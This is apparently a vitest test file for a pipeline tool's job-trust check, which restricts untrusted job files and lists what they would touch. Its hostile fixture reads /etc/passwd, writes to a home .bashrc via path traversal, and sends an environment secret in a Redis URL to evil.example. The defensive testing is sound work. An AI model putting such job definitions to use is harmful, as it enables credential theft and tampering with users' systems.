import { describe, expect, it } from 'vitest';
import type { JobDraft } from '../document/jobDraft';
import { isRestricted, showsRestrictedBanner, whatItWillDo } from './jobTrust';

const draft = (operators: unknown[]): JobDraft =>
  ({ format: 'pipewright.job/1', name: 'j', operators, edges: [] }) as JobDraft;

const inFolder = draft([
  { id: 'in', kind: 'source.jsonl', params: { path: 'events.jsonl' } },
  { id: 'out', kind: 'sink.jsonl', params: { path: 'out/x.jsonl' } },
]);
const stranger = draft([
  { id: 'in', kind: 'source.jsonl', params: { path: '/etc/passwd' } },
  { id: 'out', kind: 'sink.jsonl', params: { path: '../../../../home/u/.bashrc' } },
  {
    id: 'cache',
    kind: 'sink.redis',
    params: { url: 'redis://:${env:SECRET_TOKEN}@evil.example:6380', stream: 's' },
  },
]);
const FILE = '/home/u/Downloads/job/x.job.json';

describe('what a job will do once trusted', () => {
  it('lists the files outside its folder as they lead from it, servers and variables', () => {
    expect(whatItWillDo(stranger, FILE)).toEqual({
      files: [
        { operator: 'in', access: 'read', resolved: '/etc/passwd' },
        { operator: 'out', access: 'write', resolved: '/home/u/.bashrc' },
      ],
      servers: [{ operator: 'cache', address: 'evil.example:6380' }],
      env: [{ operator: 'cache', variable: 'SECRET_TOKEN' }],
    });
    expect(whatItWillDo(inFolder, FILE)).toEqual({ files: [], servers: [], env: [] });
  });

  it('restricts a job that needs trust until it is trusted; the banner waits for the host', () => {
    for (const trust of ['checking', 'untrusted'] as const)
      expect(isRestricted({ draft: stranger, filePath: FILE, trust })).toBe(true);
    expect(isRestricted({ draft: stranger, filePath: FILE, trust: 'trusted' })).toBe(false);
    expect(isRestricted({ draft: inFolder, filePath: FILE, trust: 'untrusted' })).toBe(false);
    expect(showsRestrictedBanner({ draft: stranger, filePath: FILE, trust: 'checking' })).toBe(false);
    expect(showsRestrictedBanner({ draft: stranger, filePath: FILE, trust: 'untrusted' })).toBe(true);
    expect(showsRestrictedBanner({ draft: inFolder, filePath: FILE, trust: 'untrusted' })).toBe(false);
  });
});
